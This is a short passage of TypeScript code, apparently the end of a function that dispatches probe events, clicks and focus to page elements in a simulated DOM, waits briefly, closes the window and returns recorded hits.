    current = element.outerHTML.slice(0, 160)
    for (const type of PROBE_EVENTS)
      element.dispatchEvent(new window.Event(type, { bubbles: true, cancelable: true }))
    const html = element as HTMLElement
    html.click?.()
    html.focus?.()
  }
  current = 'after events (a navigation or a timer)'
  await new Promise((resolve) => setTimeout(resolve, 50))
  window.close()
  return hits
}
